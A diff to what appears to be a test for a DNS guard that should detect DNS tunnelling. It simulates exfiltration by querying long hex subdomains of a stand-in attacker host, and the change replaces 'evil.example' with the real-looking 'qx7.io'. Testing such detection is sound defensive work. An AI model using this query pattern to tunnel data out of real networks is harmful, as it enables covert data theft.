@@ -68,9 +68,9 @@ class DnsGuard(Case):
     def test_a_tunnel(self):
         self.guard()
         for number in range(5):
-            found = self.dig(f"{number}f1c0b9e2d7a48355f0e9c1b7d3a6284.evil.example", good=number < 4)
+            found = self.dig(f"{number}f1c0b9e2d7a48355f0e9c1b7d3a6284.qx7.io", good=number < 4)
             self.assertEqual("203.0.113.7" in found, number < 4)
-        self.assert_told("dns-tunnel", "below evil.example")
+        self.assert_told("dns-tunnel", "below qx7.io")
         self.assertEqual(self.dig("api.camera.example"), "203.0.113.7")
         self.end_well(self.process)
 
